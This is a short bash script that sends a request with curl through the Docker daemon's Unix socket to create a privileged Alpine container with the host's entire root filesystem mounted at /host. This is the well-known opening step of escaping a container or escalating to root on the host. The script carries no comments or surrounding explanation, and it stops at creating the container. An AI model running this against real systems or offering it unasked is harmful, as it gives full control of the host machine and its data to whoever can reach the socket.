#!/bin/bash
curl -s --unix-socket /var/run/docker.sock -X POST \
  -H 'Content-Type: application/json' \
  -d '{"Image":"alpine","HostConfig":{"Binds":["/:/host"],"Privileged":true}}' \
  http://localhost/containers/create
